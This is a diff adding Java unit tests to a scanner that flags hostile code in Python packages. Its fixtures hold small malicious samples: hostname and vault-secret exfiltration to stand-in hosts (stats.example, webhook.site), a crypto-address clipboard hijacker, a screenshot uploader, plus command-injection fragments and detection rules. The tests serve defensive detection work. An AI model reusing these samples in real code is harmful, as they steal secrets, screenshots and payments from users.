@@ -133,6 +133,60 @@ class ContentRuleTest {
         .containsExactly("clipboard-read");
   }
 
+  @Test
+  void sendingTheMachinesIdentityIsWeighedAgainstThePurposeToo() {
+    String init =
+        "import platform, urllib.request\n"
+            + "urllib.request.urlopen(urllib.request.Request('https://stats.example/i',\n"
+            + "    data=platform.node().encode()))\n";
+    InspectedDistribution file = wheelWith("pkg/__init__.py", init);
+
+    assertThat(only(checkClaiming("Slugify strings for URLs", file), "capability-off-purpose"))
+        .extracting(Finding::level)
+        .isEqualTo(RiskLevel.HIGH);
+    assertThat(checkClaiming("Usage statistics client for our web API", file))
+        .extracting(f -> f.evidence().values().get("pattern"))
+        .doesNotContain("capability-off-purpose");
+  }
+
+  @Nested
+  class ImportedAliases {
+
+    @Test
+    void anAliasDoesNotHideANamedApi() {
+      String clip =
+          "import re\nimport pyperclip as pc\n\nwhile True:\n"
+              + "    if re.match(r'^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$', pc.paste()):\n"
+              + "        pc.copy(OURS)\n";
+
+      List<Finding> findings = check(wheelWith("pkg/clip.py", clip));
+
+      assertThat(only(findings, "clipboard-hijack").level()).isEqualTo(RiskLevel.CRITICAL);
+      assertThat(only(findings, "clipboard-read").message())
+          .endsWith(
+              "pkg/clip.py:5: if re.match(r'^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$', pc.paste()):");
+    }
+
+    @Test
+    void aFunctionImportedUnderAnotherNameIsItsModulesFunction() {
+      String shot =
+          "from PIL.ImageGrab import grab as g\nimport requests\n"
+              + "requests.post(URL, files={'f': g()})\n";
+
+      assertThat(only(check(wheelWith("pkg/snap.py", shot)), "screenshot-sent").level())
+          .isEqualTo(RiskLevel.CRITICAL);
+    }
+
+    @Test
+    void aNameDefinedAgainOrAnAliasOfAnUnrelatedModuleChangesNothing() {
+      String plot =
+          "import numpy as np\nfrom subprocess import run\n\n\ndef run(steps):\n"
+              + "    return np.arange(steps)\n";
+
+      assertThat(check(wheelWith("pkg/plot.py", plot))).isEmpty();
+    }
+  }
+
   /**
    * Inputs shaped to make a backtracking pattern recurse or rescan: a list of a hundred thousand
    * empty strings (a pattern repeating an alternation once overflowed the stack on word lists
@@ -152,7 +206,11 @@ class ContentRuleTest {
     "downloads,          'r = requests.get(u)\n'",
     "attribute lookups,  'getattr(m, \"\" + '",
     "xor decodings,      'x = bytes(b ^ k for b in d)\n'",
-    "awaited reads,      'l = await r.readline()\n'"
+    "awaited reads,      'l = await r.readline()\n'",
+    "renaming imports,   'import pyperclip as pc\npc.paste(x); import a as b; '",
+    "bracketed imports,  'from os import (system as '",
+    "joined lookups,     'getattr(os, \"sys\" \"tem\")(\"\" + '",
+    "deferred calls,     'functools.partial(os.system, threading.Thread(target=exec, args=('"
   })
   void hostileRepetitionIsJudgedWithoutFailing(String shape, String piece) {
     // On one line: each piece's words occur a hundred thousand times there, which made the scan
@@ -559,6 +617,27 @@ class ContentRuleTest {
           .containsExactly("internal-host");
       assertThat(findings.get(0).evidence().values())
           .containsEntry("patterns", "/etc/pkgguard/ours.tsv:1");
+    }
+
+    @Test
+    void aSignalFlowIsReportedOnlyThroughTheCombinationThatNeedsIt() {
+      TextFile ours =
+          new TextFile(
+              "/etc/pkgguard/ours.tsv",
+              "pattern\tvault-read\tpython\tcode\tsignal\t1\tvault\t\\bvault\\.read\\s*\\("
+                  + "\tvault\n"
+                  + "flow\tvault-sent\tpython\tcode\tsignal\tany\t-\tvault-read>send-call\tm\n"
+                  + "combine\tvault-to-bin\tfile\t-\thigh\t-\t-\tvault-sent+exfil-endpoint"
+                  + "\tsends a vault secret to a drop box\n");
+      String quiet = "import vault, requests\ns = vault.read('k')\nrequests.post(U, data=s)\n";
+      String loud = quiet + "U = 'https://webhook.site/0000'\n";
+      Map<String, ?> policy = Map.of("pattern-files", List.of(ours));
+
+      assertThat(check("pkg", policy, wheelWith("pkg/a.py", quiet))).isEmpty();
+      assertThat(check("pkg", policy, wheelWith("pkg/a.py", loud)))
+          .extracting(f -> f.evidence().values().get("pattern"))
+          .contains("vault-to-bin")
+          .doesNotContain("vault-sent");
     }
 
     @Test
